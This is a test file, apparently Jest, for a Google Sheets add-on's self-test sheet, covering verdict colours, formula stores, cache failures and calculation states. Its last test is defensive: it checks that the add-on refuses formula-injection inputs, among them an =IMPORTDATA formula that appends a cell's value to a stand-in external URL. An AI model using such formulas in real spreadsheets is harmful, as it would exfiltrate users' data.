import { STORES_CHECK } from '../../apps-script/formulas/stores-text';
import { makePractice, type Practice } from '../../shared/panel';
import { insertSelfTest } from '../../shared/panel/common/practice';
import { BulkPanel } from '../fakes/apps-script/bulk-panel';
import { SheetGrid } from '../fakes/apps-script/sheet/sheet-grid';
import { setSpendPolicy } from '../fakes/apps-script/spend-policy';
import type { SheetsWorld } from '../fakes/apps-script/world';
import { readOthers } from '../fakes/self-test-grid';
import { openWorld } from './open-world';

const PRACTICE = makePractice('texts', [STORES_CHECK]);
const COUNT = PRACTICE.selfTest.sheet.rows.length - 3;
const ALL = { total: `${COUNT} of ${COUNT} as expected` };

let world: SheetsWorld;
let panel: BulkPanel;

beforeAll(async () => {
  // Nothing is sent anywhere.
  world = await openWorld('http://127.0.0.1:9');
});

afterAll(() => world.stop());

beforeEach(() => {
  world.state.sheets.splice(0, Infinity, new SheetGrid(7, 'Leads'));
  world.state.documentCache.clear();
  world.state.userCaches.owner.clear();
  world.state.userProperties.owner.clear();
  panel = new BulkPanel(world);
});

async function insert(practice: Practice = PRACTICE): Promise<SheetGrid> {
  const name = await insertSelfTest(panel.host, practice);
  world.calculate();
  return world.state.sheets.find((sheet) => sheet.name === name)!;
}

it('without a key each verdict is green, in a new sheet each time', async () => {
  const first = await insert();
  expect({
    name: first.name,
    isShown: world.state.selection.sheetId === first.id,
    others: readOthers(first, world.state),
  }).toEqual({ name: 'Trace self-test', isShown: true, others: ALL });
  expect(first.layout.formats.get('4:2')).toBe('[Color10]"✓ As expected"* ;[Red]"✗ Differs"* ;"Waiting"* ');
  first.put({ row: 1, column: 1 }, 'My own title');
  const second = await insert();
  expect({
    name: second.name,
    titleOfFirst: first.value({ row: 1, column: 1 }),
    others: readOthers(second, world.state),
  }).toEqual({ name: 'Trace self-test 2', titleOfFirst: 'My own title', others: ALL });
});

it('with a key, a limit of 0 and a service that does not answer, each is green too', async () => {
  world.callRpc('setKey', ['trace_demo', 'anotherAccount', 'works']);
  setSpendPolicy(world, { mode: 'daily', limit: 0 });
  expect(readOthers(await insert(), world.state)).toEqual(ALL);
  setSpendPolicy(world, { mode: 'freely' });
});

describe('the stores that Google gives formulas', () => {
  /** What the cell says, and what *Diagnose* reads in it. */
  async function told(): Promise<readonly unknown[]> {
    const sheet = await insert();
    const row = 3 + COUNT;
    return [sheet.value({ row, column: 5 }), await panel.host.findFaults()];
  }

  it('are listed in a cell, and nothing is wrong', async () => {
    expect(await told()).toEqual(['Formulas can use: properties, cache, lock', []]);
  });

  it('are told by *Diagnose* where there are fewer', async () => {
    world.state.nullInFunctions.add('properties').add('lock');
    expect(await told()).toEqual(['Formulas can use: cache', ['noPropertiesInFormulas', 'noLockInFormulas']]);
    world.state.nullInFunctions.clear();
  });

  it('without the cache the self-test is green the second time', async () => {
    world.state.nullInFunctions.add('cache');
    await insert();
    const others = readOthers(await insert(), world.state);
    world.state.nullInFunctions.clear();
    expect(others).toEqual({
      'Stores that formulas can use': 'differs',
      total: `${COUNT - 1} of ${COUNT} as expected`,
    });
  });
});

it('a wrong answer turns its own verdict red, and no other', async () => {
  const text = JSON.stringify(PRACTICE.companies).replace('"employee_count":320', '"employee_count":321');
  const companies = JSON.parse(text) as Practice['companies'];
  expect(readOthers(await insert({ ...PRACTICE, companies }), world.state)).toEqual({
    Number: 'differs',
    total: `${COUNT - 1} of ${COUNT} as expected`,
  });
});

it('adds no sheet where Google does not save the sample answers', async () => {
  world.state.documentCacheIs = 'unwritable';
  const ended = await insertSelfTest(panel.host, PRACTICE).catch((error: unknown) => error);
  world.state.documentCacheIs = 'there';
  expect({ ended: String(ended), sheets: world.state.sheets.map(({ name }) => name) }).toEqual({
    ended: expect.stringContaining(
      'The sample answers could not be saved, so no sheet was added. Wait a minute, then retry.',
    ),
    sheets: ['Leads'],
  });
});

it('nothing is red while Google calculates', async () => {
  await insertSelfTest(panel.host, PRACTICE);
  expect(new Set(Object.values(readOthers(world.state.sheets[1]!, world.state)))).toEqual(
    new Set(['waits', `0 of ${COUNT} as expected, ${COUNT} waiting`]),
  );
});

it.each(['=IMPORTDATA("https://a.example/?"&A1)', '=HYPERLINK("https://a.example/")', '=MINE(A1)', '+A1', '@A1'])(
  'no sheet is added with %s',
  async (formula) => {
    const rows = [[formula]];
    const sent = { title: 'x', rows, chart: null, isOnce: false, looks: null };
    expect(world.callRpc('bulkAddSheet', [sent])).toMatchObject({ ok: false });
    expect(world.state.sheets).toHaveLength(1);
  },
);
